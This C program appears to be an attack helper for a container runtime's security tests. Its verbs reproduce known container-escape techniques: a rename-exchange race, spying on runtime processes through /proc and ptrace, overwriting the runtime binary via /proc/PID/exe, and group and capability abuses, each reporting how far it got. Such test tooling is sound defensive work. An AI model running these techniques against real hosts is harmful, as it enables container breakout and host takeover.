// What the attacks of test/attack run inside of a container, or beside one: `attacker VERB ...`. Static. Each verb says on stdout how far it came.
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static void say(const char *text, int number) {
  printf("%s %d\n", text, number);
  fflush(stdout);
}

// swap A B: exchanges two names as fast as it can (CVE-2021-30465).
static _Noreturn void swap(char **args) {
  say("swapping", 0);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2 /* RENAME_EXCHANGE */);
}

static int read_small(const char *path, char *out, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, out, size - 1);
  close(fd);
  out[n > 0 ? n : 0] = 0;
  return n > 0;
}

// By its name, which a program that has taken its place would not have.
static int of_the_runtime(int pid) {
  char path[64], name[32];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  return read_small(path, name, sizeof name) && strncmp(name, "tsrunc", 6) == 0;
}

static void try_links(int pid) {
  static const char *const links[] = {"exe", "cwd", "root", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6"};
  for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
    if (readlink(path, target, sizeof target) > 0 && of_the_runtime(pid)) say("got a link of", pid);
  }
}

static void try_files(int pid) {
  static const char *const files[] = {"mem", "maps", "environ", "auxv"};
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    char path[64], byte;
    snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
    int fd = open(path, i == 0 ? O_RDWR : O_RDONLY);
    if (fd >= 0 && read(fd, &byte, 1) > 0 && of_the_runtime(pid)) say("got a file of", pid);
    if (fd >= 0) close(fd);
  }
}

// The pids that come next, but for what the spy has seen already.
#define NEXT_PIDS(pid, last) (int pid = (last) > 3 ? (last) - 3 : 2; pid < (last) + 6; pid++)

// spy: tries what it can on each process of the runtime that comes into its pid namespace (CVE-2016-9962).
static _Noreturn void spy(void) {
  int seen = 0, last = getpid();
  say("spying", 0);
  for (;;) {
    for NEXT_PIDS(pid, last) {
      if (!of_the_runtime(pid)) continue;
      if (pid > last) {
        last = pid;
        say("seen", ++seen);
      }
      try_links(pid);
      try_files(pid);
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && of_the_runtime(pid)) say("got by ptrace", pid);
    }
    // The end of a program that it traces comes to the tracer first.
    while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
    }
  }
}

// The image of a process, once it can be written to: while it runs it is busy.
static int overwrite(int image) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", image);
  for (int tries = 0; tries < 2000; tries++) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0 && pwrite(fd, "#!owned\n", 8, 0) == 8) return 1;
    if (fd >= 0) close(fd);
    usleep(500);
  }
  return 0;
}

// exe PID: opens the executable of a process of the runtime, and writes to it (CVE-2019-5736).
static int exe(const char *pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int image = open(path, O_RDONLY);
  say("caught", image >= 0);
  if (image < 0) return 1;
  say(overwrite(image) ? "wrote to" : "gave up", atoi(pid));
  return 0;
}

// grant FILE: CAP_NET_RAW, inheritable, not effective by itself (VFS_CAP_REVISION_2).
static int grant(const char *file) {
  const unsigned value[5] = {0x02000000, 0, 1u << 13, 0, 0};
  return setxattr(file, "security.capability", value, sizeof value, 0) == 0 ? 0 : 1;
}

// leave FILE: gives all supplementary groups up, then reads a file that one of them may not (CVE-2014-8989).
static int leave(const char *file) {
  char text[64];
  int left = setgroups(0, NULL) == 0;
  say("groups given up", left);
  if (!read_small(file, text, sizeof text)) return 1;
  puts(text);
  return 0;
}

// nest DIR DEPTH: so many directories in one another, deeper than a path may be long.
static int nest(const char *directory, int depth) {
  if (chdir(directory) != 0) return 1;
  for (int i = 0; i < depth; i++) {
    if (mkdir("nest", 0755) != 0 || chdir("nest") != 0) return 1;
  }
  return 0;
}

// caps: the permitted capabilities of this very program (CVE-2022-29162).
static int caps(void) {
  char status[4096];
  if (!read_small("/proc/self/status", status, sizeof status)) return 1;
  const char *line = strstr(status, "CapPrm:");
  printf("%.24s\n", line ? line : "");
  return 0;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  if (strcmp(verb, "swap") == 0 && argc == 4) swap(argv + 2);
  if (strcmp(verb, "spy") == 0) spy();
  if (strcmp(verb, "exe") == 0 && argc == 3) return exe(argv[2]);
  if (strcmp(verb, "grant") == 0 && argc == 3) return grant(argv[2]);
  if (strcmp(verb, "leave") == 0 && argc == 3) return leave(argv[2]);
  if (strcmp(verb, "nest") == 0 && argc == 4) return nest(argv[2], atoi(argv[3]));
  if (strcmp(verb, "caps") == 0) return caps();
  return 2;
}
